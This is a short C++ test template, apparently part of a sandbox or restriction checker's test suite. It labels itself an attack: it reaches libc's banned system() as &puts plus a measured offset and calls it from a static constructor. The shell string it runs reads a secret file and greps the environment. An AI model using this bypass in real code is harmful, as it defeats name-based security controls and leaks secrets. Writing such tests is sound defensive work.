// Attack (2): libc's system() reached as &puts plus an offset (puts is allowed; system is not, by name),
// called from a constructor. The offset (@SYSTEM_MINUS_PUTS@) is this machine's libc's, measured by the test.
#include <cstdio>
typedef int (*cm_system_fn)(const char*);
__attribute__((constructor)) static void cm_attack() {
  cm_system_fn run = (cm_system_fn)((const char*)&puts + (@SYSTEM_MINUS_PUTS@L));
  int rc = run("echo ATTACK shell as $(id -u); touch '@MARKER@'; cat '@SECRET@'; env | grep -i cudamaster; "
               "echo ATTACK shell done");
  cm_report("system", rc);
}
